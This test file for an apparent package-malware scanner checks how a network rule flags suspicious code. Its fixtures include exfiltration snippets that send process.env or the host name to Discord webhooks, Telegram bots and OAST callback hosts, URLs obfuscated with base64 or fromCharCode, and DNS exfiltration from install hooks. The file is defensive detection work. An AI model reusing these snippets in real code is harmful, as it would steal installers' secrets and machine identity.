import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostInfo, finding } from '../test/helpers/findings.js';

const RULE = 'network';

describe('network reports', () => {
  test('a Discord webhook receiving the host name is a high exfil endpoint and malicious', () => {
    const r = scanFiles({
      'index.js': "const https = require('https');\nconst req = https.request('https://discord.com/api/webhooks/123456789012345678/fake-token-for-tests', { method: 'POST', headers: { 'content-type': 'application/json' } });\nreq.end(JSON.stringify({ content: require('os').hostname() }));",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:exfil-endpoint'], { message: expect.stringContaining('Discord webhook') }));
    expect(r.of(RULE)).toContainEqual(finding('info', ['sink:network']));
    expect(r.verdict).toBe('malicious');
  });

  test('a base64-encoded Telegram bot URL is decoded and flagged as obfuscated', () => {
    const r = scanFiles({
      'index.js': "const u = Buffer.from('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDAwMDA6ZmFrZS9zZW5kTWVzc2FnZQ==', 'base64').toString();\nfetch(u, { method: 'POST', body: JSON.stringify({ text: JSON.stringify(process.env) }) });",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:exfil-endpoint', 'obfuscation'], { message: expect.stringContaining('Telegram') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a webhook.site URL spelled in String.fromCharCode is decoded', () => {
    const codes = [...'https://webhook.site/x'].map((c) => c.charCodeAt(0)).join(',');
    const r = scanFiles({ 'index.js': `const h = String.fromCharCode(${codes});\nfetch(h, { method: 'POST', body: require('os').hostname() });` });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:exfil-endpoint', 'obfuscation'], { message: expect.stringContaining('webhook.site') }));
    expect(r.verdict).toBe('malicious');
  });

  test('an encoded URL to an ordinary host is still medium obfuscation', () => {
    const r = scanFiles({ 'index.js': "const u = Buffer.from('aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZC9j', 'base64').toString();\nfetch(u);" });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['obfuscation'], { message: expect.stringContaining('https://collector.invalid/c') }));
  });

  test('a URL with a raw public IP is a medium exfil endpoint, malicious with a fingerprint', () => {
    const r = scanFiles({ 'index.js': "const http = require('http');\nhttp.get('http://45.77.12.34:8080/beacon?h=' + require('os').hostname());" });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['sink:exfil-endpoint'], { message: expect.stringContaining('45.77.12.34') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a DNS lookup of a name built from host data at preinstall is DNS exfiltration', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node b.js' } }),
      'b.js': "const dns = require('dns');\nconst os = require('os');\nconst label = Buffer.from(os.userInfo().username).toString('hex');\ndns.lookup(`${label}.${os.hostname()}.collector.invalid`, () => {});",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:dns', 'source:fingerprint'], { reach: 'install' }));
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(90);
  });

  test('dns.resolve of hostname.username.<domain> on import is DNS exfiltration', () => {
    const r = scanFiles({ 'index.js': "const dns = require('dns');\nconst os = require('os');\ndns.resolve(os.hostname() + '.' + os.userInfo().username + '.x.collector.invalid', 'A', () => {});" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:dns']));
    expect(r.verdict).toBe('malicious');
  });

  test('a public-IP lookup service in install code is a recon endpoint', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node r.js' } }),
      'r.js': "const https = require('https');\nconst os = require('os');\nhttps.get('https://api.ipify.org?format=json', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => https.get('https://collector.invalid/?ip=' + JSON.parse(b).ip + '&h=' + os.hostname())); });",
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['sink:recon-endpoint'], { message: expect.stringContaining('ipify') }));
    expect(r.verdict).toBe('malicious');
  });

  test.each([
    ['interactsh/OAST', 'https://abc123.oast.fun/'],
    ['Pipedream', 'https://eo1234abcd.m.pipedream.net/'],
    ['ngrok', 'https://a1b2c3d4.ngrok-free.app/'],
    ['Burp', 'https://x.burpcollaborator.net/'],
  ])('a %s callback host is a high exfil endpoint', (label, url) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { preinstall: 'node index.js' } }), 'index.js': `require('https').get('${url}' + require('os').hostname());` });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:exfil-endpoint'], { message: expect.stringContaining(label) }));
    expect(r.verdict).toBe('malicious');
  });

  test('a Discord webhook URL split across a concatenation is still an exfil endpoint', () => {
    const r = scanFiles({ 'index.js': "const https = require('https'); const os = require('os');\nhttps.get('https://disc' + 'ord.com/api/web' + 'hooks/000/fake?h=' + os.hostname());" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:exfil-endpoint']));
    expect(r.verdict).toBe('malicious');
  });
});

describe('network stays quiet', () => {
  test('an HTTP client library passing caller options to https.request', () => {
    const r = scanFiles({
      'index.js': "const https = require('https');\nmodule.exports = function request(options, body) {\n  return new Promise((resolve, reject) => {\n    const req = https.request(options, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); });\n    req.on('error', reject);\n    if (body) req.write(body);\n    req.end();\n  });\n};",
    });
    expect(r.of(RULE)).toEqual([finding('info', ['sink:network'], { message: expect.stringContaining('https.request') })]);
    expect(r.verdict).toBe('clean');
  });

  test('an SDK calling its own API: one info note per file', () => {
    const r = scanFiles({
      'index.js': "const BASE = 'https://api.acme.example/v2';\nexports.get = (path) => fetch(BASE + path).then((r) => r.json());\nexports.post = (path, body) => fetch(BASE + path, { method: 'POST', body: JSON.stringify(body) });",
    });
    expect(r.of(RULE)).toHaveLength(1);
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('private and loopback IP URLs are not exfil endpoints', () => {
    const r = scanFiles({
      'index.js': "const http = require('http');\nconst EXAMPLES = ['http://10.0.0.1/', 'http://127.0.0.1:3000/', 'http://192.168.1.10:8080/health', 'http://172.16.0.5/'];\nmodule.exports = { EXAMPLES, ping: (u) => http.get(u) };",
    });
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('a plain DNS lookup of a caller-given host is an info DNS query', () => {
    const r = scanFiles({ 'index.js': "const dns = require('dns').promises;\nmodule.exports = async (host) => (await dns.lookup(host)).address;" });
    expect(r.of(RULE)).toEqual([finding('info', ['sink:dns'])]);
    expect(r.verdict).toBe('clean');
  });

  test('a notifier that posts to a webhook URL the user configures', () => {
    const r = scanFiles({
      'README.md': 'Pass your own Discord webhook URL, e.g. https://discord.com/api/webhooks/<id>/<token>',
      'index.js': "module.exports = function notify(url, text) { return fetch(url, { method: 'POST', body: JSON.stringify({ content: text }) }); };",
    });
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('WebSocket and net clients to caller-given addresses', () => {
    const r = scanFiles({ 'index.js': "const net = require('net');\nexports.ws = (url) => new WebSocket(url);\nexports.debug = (port = 9229) => net.connect({ host: '127.0.0.1', port });" });
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });
});
